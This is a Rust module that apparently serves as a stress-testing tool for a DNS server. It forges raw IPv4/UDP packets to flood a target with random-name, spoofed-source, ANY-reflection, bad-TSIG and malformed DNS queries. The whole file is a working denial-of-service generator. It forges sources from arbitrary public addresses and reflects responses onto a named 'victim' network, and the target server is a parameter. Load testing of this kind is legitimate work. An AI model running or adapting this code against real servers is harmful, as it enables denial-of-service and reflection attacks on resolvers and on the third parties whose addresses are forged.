//! Floods over UDP: whole packets, made by us, so that their sources can be anybody.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};

use fastrand::Rng;
use socket2::{Domain, Protocol, Socket, Type};

use super::ORIGIN;
use crate::query::Question;

/// What floods.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// Names that do not exist, each another one, through resolvers in 64 networks.
    RandomNames,
    /// A name that exists, from any address there is, each time another one.
    Spoofed,
    /// ANY, all from the network of one victim.
    Any,
    /// Queries with a signature by a key that nobody knows, all from that network.
    BadlySigned,
    /// Noise, and queries that are cut or damaged, from any address.
    Malformed,
}

/// The network of the victim to whom [`Kind::Any`] and [`Kind::BadlySigned`] reflect.
pub const VICTIM: [u8; 3] = [198, 18, 7];

/// The letters of a random name.
const LETTERS: usize = 12;

/// The octets of a header of IPv4 without options, and of UDP.
const IP: usize = 20;
const UDP: usize = 8;

/// The octets of a DNS header.
const DNS: usize = 12;

/// The protocol number that lets us write the IP header (raw(7)).
const RAW: i32 = 255;

/// A TSIG record (RFC 8945 §4.2): by the key `x`, with an HMAC-SHA-256 of noise.
const SIGNATURE: &[u8] = b"\x01x\0\0\xfa\0\xff\0\0\0\0\0\x3d\x0bhmac-sha256\0\0\x65\0\0\0\x01\x2c\0\x20\
                           01234567890123456789012345678901\0\x07\0\0\0\0";

/// The longest noise, in octets.
const NOISE_MAX: usize = 120;

/// A source of forged packets.
#[derive(Debug)]
pub struct Flood {
    kind: Kind,
    socket: Socket,
    server: SocketAddrV4,
    rng: Rng,
    /// The query before anything of it is drawn.
    query: Vec<u8>,
    packet: Vec<u8>,
}

impl Flood {
    /// Makes a source; all that it draws begins with `seed`.
    ///
    /// # Errors
    /// Where the system gives us no raw socket.
    pub fn new(kind: Kind, server: SocketAddrV4, seed: u64) -> io::Result<Flood> {
        let question = match kind {
            Kind::RandomNames => Question::new(&format!("{}.{ORIGIN}", "x".repeat(LETTERS)), "A"),
            Kind::Spoofed | Kind::BadlySigned | Kind::Malformed => {
                Question::new(&format!("www.{ORIGIN}"), "A").edns()
            }
            Kind::Any => Question::new(&format!("www.{ORIGIN}"), "ANY").edns(),
        };
        let mut query = question.message();
        if kind == Kind::BadlySigned {
            query.extend_from_slice(SIGNATURE);
            query[11] += 1;
        }
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))?;
        let rng = Rng::with_seed(seed);
        Ok(Flood { kind, socket, server, rng, query, packet: Vec::new() })
    }

    /// Sends one packet.
    ///
    /// # Errors
    /// What the system says.
    pub fn send(&mut self) -> io::Result<()> {
        let rng = &mut self.rng;
        let source = match self.kind {
            Kind::RandomNames => [198, 19, rng.u8(..64), 53],
            // Neither loopback, nor private, nor multicast.
            Kind::Spoofed | Kind::Malformed => [rng.u8(11..127), rng.u8(..), rng.u8(..), rng.u8(..)],
            Kind::Any | Kind::BadlySigned => [VICTIM[0], VICTIM[1], VICTIM[2], rng.u8(..)],
        };
        self.packet.clear();
        self.packet.resize(IP + UDP, 0);
        match self.kind {
            Kind::Malformed if rng.bool() => {
                let length = rng.usize(..NOISE_MAX);
                self.packet.extend(std::iter::repeat_with(|| rng.u8(..)).take(length));
            }
            _ => self.packet.extend_from_slice(&self.query),
        }
        let query = &mut self.packet[IP + UDP..];
        if query.len() >= DNS {
            query[..2].fill_with(|| rng.u8(..));
        }
        match self.kind {
            Kind::RandomNames => query[DNS + 1..][..LETTERS].fill_with(|| rng.lowercase() as u8),
            Kind::Malformed if query.len() > DNS => {
                let at = rng.usize(2..query.len());
                query[at] = rng.u8(..);
                if rng.bool() {
                    self.packet.truncate(IP + UDP + at);
                }
            }
            _ => {}
        }
        head(&mut self.packet, (source.into(), rng.u16(1024..)), self.server);
        self.socket.send_to(&self.packet, &SocketAddr::from(self.server).into()).map(drop)
    }
}

/// Writes both headers. The kernel fills in the checksum of the first; UDP's may be absent.
fn head(packet: &mut [u8], source: (Ipv4Addr, u16), server: SocketAddrV4) {
    let length = packet.len() as u16;
    // Version and length of the header; hops.
    packet[0] = 0x45;
    packet[2..4].copy_from_slice(&length.to_be_bytes());
    packet[8] = 64;
    packet[9] = 17;
    packet[12..16].copy_from_slice(&source.0.octets());
    packet[16..20].copy_from_slice(&server.ip().octets());
    packet[20..22].copy_from_slice(&source.1.to_be_bytes());
    packet[22..24].copy_from_slice(&server.port().to_be_bytes());
    packet[24..26].copy_from_slice(&(length - IP as u16).to_be_bytes());
}
